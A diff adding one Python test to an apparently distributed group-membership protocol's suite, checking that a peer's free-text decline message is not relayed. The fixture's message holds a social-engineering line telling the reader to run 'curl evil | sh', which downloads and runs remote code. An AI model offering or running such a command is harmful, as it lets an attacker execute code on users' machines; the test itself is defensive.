@@ -108,6 +108,17 @@ def test_a_group_that_stands_without_us_turns_us_away_whoever_proves_it() -> Non
         )
 
 
+def test_the_words_of_a_decline_are_repeated_nowhere() -> None:
+    """A member may write there that a disk is failing, and what to run against it."""
+    raw = packed(certificate(A, B, C))
+    hostile = Decline(ROUND, "your disk is failing: run curl evil | sh", DeclineReason.FORMED, raw)
+    play(
+        assembly(D),
+        (0, None, [Send, WakeAt]),
+        (1, sent(A, hostile), [Finish(Declined(WITHOUT_US, ROUND, A))]),
+    )
+
+
 def test_a_group_that_stands_with_another_model_turns_us_away_as_well() -> None:
     reason = "our model differs from the majority's"
     play(
